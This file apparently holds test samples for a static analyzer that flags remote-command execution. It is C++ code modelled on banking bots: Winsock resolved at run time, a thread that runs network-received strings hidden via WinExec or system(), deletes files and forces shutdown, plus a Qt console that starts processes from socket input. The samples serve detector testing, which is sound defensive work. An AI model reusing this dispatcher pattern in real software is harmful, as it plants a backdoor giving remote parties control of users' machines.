// Remote-command samples in C++ in the style of banking bots: Winsock resolved at run time
// into a struct of function pointers, wrapper macros around every API, a worker thread
// started with CreateThread, and a Qt management console.
#include <windows.h>
#include <winsock2.h>
#include <QTcpSocket>
#include <QProcess>
#include <QString>

#define CWA(dll, api) api

typedef int (WINAPI *RECV_FN)(SOCKET, char *, int, int);
typedef int (WINAPI *SEND_FN)(SOCKET, const char *, int, int);

struct WinsockApi {
    HMODULE module;
    RECV_FN pRecv;
    SEND_FN pSend;
};

static WinsockApi g_ws;

static bool ResolveWinsock()
{
    g_ws.module = CWA(kernel32, LoadLibraryA)("ws2_32.dll");
    g_ws.pRecv = (RECV_FN)CWA(kernel32, GetProcAddress)(g_ws.module, "recv");
    g_ws.pSend = (SEND_FN)CWA(kernel32, GetProcAddress)(g_ws.module, "send");
    return g_ws.pRecv && g_ws.pSend;
}

struct BotContext {
    SOCKET sock;
    char botId[64];
};

// Commands are single letters; the argument follows.
static void Execute(BotContext *ctx, const char *pkt)
{
    const char *arg = pkt + 1;
    switch (pkt[0]) {
    case 'x': // want "remote-command/dispatcher"
        CWA(kernel32, WinExec)(arg, SW_HIDE); // want "remote-command/process-from-network"
        break;
    case 'd':
        CWA(kernel32, DeleteFileA)(arg); // want "remote-command/file-operation-from-network"
        break;
    case 'r':
        CWA(advapi32, InitiateSystemShutdownExA)(NULL, NULL, 0, TRUE, TRUE, 0);
        break;
    case 'p':
        g_ws.pSend(ctx->sock, ctx->botId, (int)strlen(ctx->botId), 0);
        break;
    }
}

static DWORD WINAPI BotThread(LPVOID param)
{
    BotContext *ctx = (BotContext *)param;
    char pkt[2048];
    int n;
    while ((n = g_ws.pRecv(ctx->sock, pkt, sizeof pkt - 1, 0)) > 0) {
        pkt[n] = 0;
        Execute(ctx, pkt);
    }
    return 0;
}

void StartBot(SOCKET s)
{
    static BotContext ctx;
    ctx.sock = s;
    lstrcpyA(ctx.botId, "BOT-0001");
    if (ResolveWinsock())
        CreateThread(NULL, 0, BotThread, &ctx, 0, NULL);
}

// recv through the wrapper macro, the command handed to a thread as its parameter.
static DWORD WINAPI RunJob(LPVOID param)
{
    const char *cmd = (const char *)param;
    return (DWORD)system(cmd); // want "remote-command/process-from-network"
}

void JobListener(SOCKET s)
{
    static char job[1024];
    int n = CWA(ws2_32, recv)(s, job, sizeof job - 1, 0);
    if (n <= 0)
        return;
    job[n] = 0;
    HANDLE t = CreateThread(NULL, 0, RunJob, job, 0, NULL);
    WaitForSingleObject(t, INFINITE);
}

// ---- Qt management console ----------------------------------------------------------------

class ConsoleClient : public QObject {
public:
    void onReadyRead();
    void onLocalAction(const QString &action);
private:
    QTcpSocket *m_console;
    QProcess *m_worker;
};

void ConsoleClient::onReadyRead()
{
    const QString line = QString::fromUtf8(m_console->readAll()).trimmed();
    const QString verb = line.section(' ', 0, 0);
    const QString arg = line.section(' ', 1);
    if (verb == "run") { // want "remote-command/dispatcher"
        m_worker->start(arg); // want "remote-command/process-from-network"
    } else if (verb == "scan") {
        QProcess::startDetached("C:/Program Files/AvCorp/scan.exe", QStringList() << "--quick"); // ok: a constant program with constant arguments
    } else if (verb == "purge") {
        DeleteFileW(L"C:\\ProgramData\\AvCorp\\quarantine.db");
    }
}

void ConsoleClient::onLocalAction(const QString &action)
{
    if (action == "open-log") // ok: a UI action, not network input
        QProcess::startDetached("notepad.exe", QStringList() << "C:/ProgramData/AvCorp/agent.log");
    else if (action == "clear-log")
        DeleteFileW(L"C:\\ProgramData\\AvCorp\\agent.log");
    m_console->write("ACK\n"); // ok: a constant reply
}
